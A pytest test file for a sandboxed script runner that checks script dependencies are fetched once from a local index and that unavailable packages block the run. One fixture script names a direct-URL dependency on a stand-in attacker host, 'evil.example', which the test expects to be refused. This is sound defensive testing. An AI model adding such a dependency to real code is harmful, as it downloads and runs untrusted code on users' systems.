"""Packages that a script asks for are fetched once, and are there in each run; what cannot be had refuses the run."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from skillyard.domain.runs.execute import execute
from skillyard.domain.runs.model import Run, RunStatus
from skillyard.domain.runs.start import start_run
from skillyard.skill.names import SkillName
from tests.domain.runs.yard import Yard, a_yard
from tests.makers import a_release
from tests.sandbox.package_index import PackageIndex, package_index, wheel

NAME = SkillName.parse("ada/packed")
BLOCK = '# /// script\n# dependencies = ["{needs}"]\n# ///\n'
SCRIPTS = {
    "scripts/greet.py": BLOCK.format(needs="greeting==1.0") + "import greeting\nprint(greeting.TEXT)\n",
    "scripts/missing.py": BLOCK.format(needs="nobody-made-this==1.0") + "print('never')\n",
    "scripts/address.py": BLOCK.format(needs="x @ https://evil.example/x.whl") + "print('never')\n",
}


@pytest.fixture(scope="module")
def index() -> Iterator[PackageIndex]:
    with package_index() as running:
        running.add(wheel("greeting", "1.0", {"greeting.py": "TEXT = 'hello from a wheel'\n"}))
        yield running


@pytest.fixture(scope="module")
def yard(tmp_path_factory: pytest.TempPathFactory, index: PackageIndex) -> Iterator[Yard]:
    folder: Path = tmp_path_factory.mktemp("packages")
    host = index.python_url.split("//")[1].split(":")[0]
    yard = a_yard(folder, python_index=index.python_url, outbound_allow=host)
    a_release(yard.app, yard.ada, str(NAME), files=SCRIPTS)
    yield yard
    yard.app.close()


def run(yard: Yard, script: str) -> Run:
    started = start_run(yard.app, yard.ada, name=NAME, script=script)
    execute(yard.app, run_id=started.id)
    return yard.look(started)


def test_a_package_is_fetched_once_for_all_runs(yard: Yard, index: PackageIndex) -> None:
    first = run(yard, "greet.py")
    assert (first.status, yard.stdout(first)) == (RunStatus.SUCCEEDED, "hello from a wheel\n"), first.why
    asked = len(index.asked)
    assert asked
    second = run(yard, "greet.py")
    assert yard.stdout(second) == "hello from a wheel\n"
    assert len(index.asked) == asked
    assert not index.secrets


@pytest.mark.parametrize(("script", "why"), [("missing.py", "nobody-made-this"), ("address.py", "x @ https")])
def test_what_cannot_be_had_is_told_and_the_script_is_not_started(yard: Yard, script: str, why: str) -> None:
    before = len(yard.sandbox.tasks)
    refused = run(yard, script)
    assert (refused.status, refused.receipt) == (RunStatus.REFUSED, None)
    assert why in refused.why
    assert not [task for task in yard.sandbox.tasks[before:] if "/skill/scripts" in " ".join(task.arguments)]
